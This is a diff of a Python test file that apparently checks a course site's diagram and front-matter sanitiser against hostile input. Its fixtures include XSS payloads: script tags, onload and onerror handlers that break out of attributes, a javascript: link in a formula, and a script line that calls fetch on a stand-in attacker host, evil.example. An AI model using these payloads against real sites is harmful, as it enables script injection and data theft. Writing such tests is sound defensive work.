@@ -7,13 +7,14 @@
 from __future__ import annotations
 
 import base64
-import hashlib
 import io
 import json
 import zipfile
 import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+
+from course_site.diagrams.library import starter
 
 JS = "window.pwned=1;alert(1);fetch('https://evil.example/x')"
 PNG = base64.b64encode(
@@ -65,10 +66,11 @@ def cell(value: str, style: str = "html=1;", more: str = "") -> str:
     return f'<mxCell id="x" parent="1" vertex="1" style="{style}" value="{value}" {more}>{sides}</mxCell>'
 
 
-def in_two_languages(value: str) -> str:
-    inside = cell("", "text;html=1;").replace(' id="x"', "").replace(' value=""', "")
-    value = value.replace("&", "&amp;")
-    return f'<object id="x" label="{value}" label_fr="{value}">{inside}</object>'
+def starter_with(old: str, value: str) -> str:
+    """Return the course's own first drawing with a part replaced by a value that ends its attribute."""
+    value = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+    assert old in starter()
+    return starter().replace(old, value)
 
 
 DRAWINGS = {
@@ -95,7 +97,10 @@ DRAWINGS = {
     "a colour that ends its attribute": (
         drawing(cell("a", 'ellipse;html=1;fillColor=red&quot; onload=&quot;window.pwned=1;')), "its fill is", 2,
     ),
-    "an escaped script in a label": (drawing(in_two_languages("&lt;script&gt;window.pwned=1&lt;/script&gt;")),),
+    "an escaped script in a label": (starter_with("Encode", "&lt;script&gt;window.pwned=1&lt;/script&gt;"),),
+    "an escaped event in a label": (starter_with("Encode", "&lt;img src=x onerror=pwned=1&gt;"),),
+    "a label that ends its attribute": (starter_with("Encode", '" onload="window.pwned=1'),),
+    "a page whose name is a script": (starter_with("Page-1", f"<script>{JS}</script>"),),
     "a formula that is a link": (
         drawing(cell(r"\(\href{javascript:pwned=1}{x}\)", "ellipse;html=1")), r"\href is refused",
     ),
@@ -197,7 +202,7 @@ FRONT_MATTER = {
         2,
     ),
     "a description that is a script": (
-        front(f"title: T\ndescription: '\"><script>window.pwned=1</script>'"),
+        front("title: T\ndescription: '\"><script>window.pwned=1</script>'"),
         "`description` must be words",
         3,
     ),
